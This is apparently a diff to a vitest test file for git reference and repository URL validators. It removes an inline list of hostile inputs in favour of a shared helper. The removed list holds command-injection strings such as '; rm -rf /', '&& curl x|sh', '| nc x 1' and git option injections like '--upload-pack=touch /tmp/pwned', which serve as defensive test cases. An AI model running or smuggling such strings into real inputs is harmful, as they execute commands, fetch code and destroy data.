@@ -1,24 +1,10 @@
 import { describe, expect, test } from 'vitest';
+import { hostileTexts } from './testing/hostile-texts.js';
 import { gitRefProblem, repositoryUrlProblem, subFolderProblem } from './git-reference.js';
 
 const closed = { localRoot: null };
 const open = { localRoot: '/srv/git' };
-const hostile = [
-  '$(touch /tmp/pwned)',
-  '`id`',
-  '; rm -rf /',
-  '&& curl x|sh',
-  '| nc x 1',
-  'main; wget x',
-  'a\nb',
-  '--upload-pack=touch /tmp/pwned',
-  '-oProxyCommand=id',
-  '${X:-$(id)}',
-  '"; }',
-  'a\0b',
-  'x'.repeat(10_000),
-  'a\u202eb',
-];
+const hostile = hostileTexts('/tmp/apployd-canary').filter((text) => !text.includes('../'));
 
 describe('repository URLs', () => {
   test.each([
